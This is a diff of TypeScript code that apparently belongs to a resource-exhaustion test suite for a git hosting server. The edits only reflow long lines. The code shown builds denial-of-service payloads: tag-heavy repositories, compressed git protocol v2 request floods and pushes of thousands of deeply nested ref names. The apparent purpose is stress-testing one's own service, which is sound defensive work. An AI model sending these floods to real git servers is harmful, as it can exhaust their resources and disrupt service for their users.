@@ -20,7 +20,10 @@ async function taggedRepo(ctx: AttackContext): Promise<{ owner: string; name: st
   await ctx.api.createRepo(victim, name);
   const dir = await ctx.scratch('tagged');
   await repoWithFiles(ctx.git, dir, { 'README.md': '# tags\n' });
-  await ctx.git.git(['update-ref', '--stdin'], { cwd: dir, input: Array.from({ length: TAGS }, (_, i) => `create refs/tags/t${i} HEAD\n`).join('') });
+  await ctx.git.git(['update-ref', '--stdin'], {
+    cwd: dir,
+    input: Array.from({ length: TAGS }, (_, i) => `create refs/tags/t${i} HEAD\n`).join(''),
+  });
   await ctx.git.git(['push', '--quiet', ctx.api.gitUrl(victim, victim.name, name), 'main', '--tags'], { cwd: dir });
   return { owner: victim.name, name };
 }
@@ -33,7 +36,9 @@ function v2Flood(name: string, command: string, line: string): Attack {
     async prepare(ctx) {
       const repo = await taggedRepo(ctx);
       const argument = pkt(line);
-      const body = gzipSync(Buffer.concat([pkt(`command=${command}\n`), DELIM, ...Array.from({ length: LINES }, () => argument), FLUSH]), { level: 9 });
+      const body = gzipSync(Buffer.concat([pkt(`command=${command}\n`), DELIM, ...Array.from({ length: LINES }, () => argument), FLUSH]), {
+        level: 9,
+      });
       return async (limits: StrikeLimits) => {
         try {
           const answer = await request(`${ctx.target.base()}/${repo.owner}/${repo.name}.git/git-upload-pack`, {
@@ -65,7 +70,9 @@ const deepRefs: Attack = {
     await ctx.git.git(['push', '--quiet', ctx.api.gitUrl(attacker, attacker.name, repo), 'main'], { cwd: dir });
     const head = (await ctx.git.git(['rev-parse', 'HEAD'], { cwd: dir })).stdout.trim();
     const deep = 'd/'.repeat(490);
-    const commands = Array.from({ length: 3_800 }, (_, i) => pkt(`${ZERO_ID} ${head} refs/heads/${deep}${i}${i === 0 ? '\0report-status side-band-64k' : ''}\n`));
+    const commands = Array.from({ length: 3_800 }, (_, i) =>
+      pkt(`${ZERO_ID} ${head} refs/heads/${deep}${i}${i === 0 ? '\0report-status side-band-64k' : ''}\n`),
+    );
     // No pack: every object is there already, as for a push of new branch names only.
     const body = Buffer.concat([...commands, FLUSH]);
     return async (limits: StrikeLimits) => {
